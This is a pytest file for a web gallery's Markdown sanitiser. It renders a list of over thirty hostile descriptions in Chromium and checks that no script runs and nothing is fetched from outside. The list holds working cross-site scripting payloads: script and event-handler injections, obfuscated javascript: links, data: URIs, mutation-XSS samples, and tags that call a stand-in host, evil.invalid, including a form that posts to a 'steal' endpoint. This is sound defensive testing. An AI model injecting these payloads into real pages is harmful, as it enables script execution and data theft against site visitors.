"""Hostile Markdown descriptions, each on its asset's page in Chromium: no injected script
runs (no dialog, no console error, no request to an injected URL), and none of what could
run survives in the page. The Content-Security-Policy is bypassed here, so that the
sanitiser is what is tested (the header is tested on its own in test_pages)."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

from gallery_sync.gallery.local import SqliteStore
from gallery_sync.model import Asset, Version, Visibility, VisibilityLevel
from web_gallery import keep, serving

EVIL = "http://evil.invalid"
HOSTILE = [
    "<script>alert('script')</script>",
    "<SCRIPT SRC=http://evil.invalid/x.js></SCRIPT>",
    "<img src=x onerror=alert('onerror')>",
    '<img src="http://evil.invalid/pixel.png">',
    "<svg onload=alert('svg')><circle r=4/></svg>",
    "<svg><script>alert('svg-script')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('xlink')\"><text y=20>x</text></a></svg>",
    "[click](javascript:alert('md-link'))",
    "[click](JaVaScRiPt:alert('mixed-case'))",
    "[click](java&#09;script:alert('tab-entity'))",
    "[click](&#106;avascript:alert('entity'))",
    "[click](%6Aavascript:alert('percent'))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![tracker](http://evil.invalid/track.gif)",
    "<a href=\"javascript:alert('raw-a')\">raw link</a>",
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<iframe src="http://evil.invalid/frame"></iframe>',
    '<object data="http://evil.invalid/x.swf"></object>',
    '<embed src="http://evil.invalid/x.swf">',
    '<form action="http://evil.invalid/steal"><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=http://evil.invalid/">',
    '<link rel="stylesheet" href="http://evil.invalid/x.css">',
    "<style>body{background:url(http://evil.invalid/bg.png)}</style>",
    '<div style="background:url(http://evil.invalid/inline.png)">styled</div>',
    "<details open ontoggle=alert('toggle')><summary>s</summary>x</details>",
    "<b onmouseover=alert('hover')>bold</b><p><i>broken <b>nesting</p></i>",
    "</div></section></main><script>alert('escape')</script>",
    "<!-- <script>alert('comment')</script> -->",
    "<scr<script>ipt>alert('split')</scr</script>ipt>",
    "&lt;script&gt;alert('entities')&lt;/script&gt;",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\"></noscript>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')>",
    '<base href="http://evil.invalid/"><a href="/x">based</a>',
    "`<script>alert('code')</script>` and\n\n    <script>alert('indented')</script>",
    "<video src=x onerror=alert('video')></video><audio src=x onerror=alert('audio')>",
]


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    url = f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'gallery.db'}"
    store = SqliteStore.open(url, create=True)
    one = (Version("1.0.0", "cn-north-4", "app"),)
    public = Visibility(VisibilityLevel.PUBLIC)
    keep(
        store,
        [
            Asset(
                f"hostile-{i:02}",
                "mallory",
                f"Hostile {i:02}",
                one,
                description=f"Before.\n\n{md}\n\nAfter.",
                visibility=public,
            )
            for i, md in enumerate(HOSTILE)
        ],
    )
    store.close()
    with serving(url) as base:
        yield base


def test_the_corpus_is_large_enough() -> None:
    assert len(HOSTILE) >= 30


@pytest.mark.parametrize("index", range(len(HOSTILE)))
def test_no_injected_script_runs_and_nothing_is_fetched(
    browser: Any, hostile_site: str, index: int
) -> None:
    context = browser.new_context(base_url=hostile_site, bypass_csp=True)
    page = context.new_page()
    dialogs: list[str] = []
    errors: list[str] = []
    outside: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.on("request", lambda r: None if r.url.startswith(hostile_site) else outside.append(r.url))
    response = page.goto(f"/models/hostile-{index:02}")
    assert response.status == 200
    # Hover and click whatever the description kept: a handler would run now.
    description = page.locator(".description")
    for element in description.locator("b, a, details, summary, div").all():
        element.hover()
    for link in description.locator("a[href]").all():
        # What the browser makes of the href (a relative one stays on this site).
        assert link.evaluate("a => a.protocol") in ("http:", "https:", "mailto:")
    page.wait_for_timeout(50)
    found = page.evaluate(
        """() => {
        const d = document.querySelector('.description');
        const bad = [];
        for (const el of d.querySelectorAll('*')) {
            if (['SCRIPT','IFRAME','OBJECT','EMBED','FORM','META','LINK','STYLE','BASE','IMG',
                 'SVG','MATH','VIDEO','AUDIO'].includes(el.tagName.toUpperCase()))
                bad.push(el.tagName);
            for (const a of el.attributes)
                if (a.name.startsWith("on") || ["style", "src"].includes(a.name))
                    bad.push(a.name);
        }
        return bad;
    }"""
    )
    assert (dialogs, errors, outside, found) == ([], [], [], [])
    text = description.inner_text()
    assert text.startswith("Before."), text
    # The page goes on after the description; so does the description, unless it opened a raw
    # text element it never closed (an unclosed <style> swallows the rest, as in a browser).
    assert text.rstrip().endswith("After.") or "<style>" in HOSTILE[index], text
    assert page.locator("main h1").inner_text() == f"Hostile {index:02}"
    context.close()
